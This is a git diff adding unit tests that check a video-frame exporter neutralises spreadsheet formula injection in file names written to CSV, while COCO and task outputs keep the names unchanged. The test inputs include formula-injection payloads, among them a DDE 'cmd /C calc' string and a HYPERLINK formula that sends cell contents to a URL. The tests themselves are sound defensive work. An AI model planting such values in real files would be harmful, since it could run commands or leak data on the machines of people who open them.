@@ -25,6 +25,35 @@ describe("the forms of a result", () => {
     );
   });
 
+  for (const name of [
+    '=HYPERLINK("http://x/?"&A1)-1-mp4.png',
+    "=cmd|' /C calc'!A0.png",
+    "+1+1.png",
+    "-2+3.png",
+    "@SUM(1).png",
+    "\t=1.png",
+    "\r=1.png",
+    "\n=1.png",
+    "＝1+1.png",
+  ]) {
+    it(`keeps ${JSON.stringify(name)} from being a formula of a CSV's reader, and as it is for machines`, () => {
+      const [, ...cells] = framesAsCsv([{ fileName: name, video: name, frame: 1 }]).split(
+        "file_name,video,frame,time_seconds\r\n",
+      );
+      const cell = /[",;\t\r\n]/.test(name) ? `"'${name.replaceAll('"', '""')}"` : `'${name}`;
+      assert.deepEqual(cells, [`${cell},${cell},1,\r\n`]);
+      assert.equal(framesAsCoco([{ fileName: name }], "x").images[0]?.file_name, name);
+      assert.equal(framesAsTasks([{ fileName: name }], () => "x")[0]?.data.lightlyFileName, name);
+    });
+  }
+
+  it("leaves a name that only has such characters inside, and a number, as they are in a CSV", () => {
+    const [, line] = framesAsCsv([{ fileName: "a=b+c-d@e.png", video: "a.mp4", frame: 3, timeSeconds: -0.5 }]).split(
+      "\r\n",
+    );
+    assert.equal(line, "a=b+c-d@e.png,a.mp4,3,-0.5");
+  });
+
   it("goes by Lightly's metadata rather than by a name that only looks like one", () => {
     const frame = { fileName: "v-03-mp4.png", video: "other.mp4", frame: 9 };
     assert.match(framesAsCsv([frame]), /v-03-mp4\.png,other\.mp4,9,/);
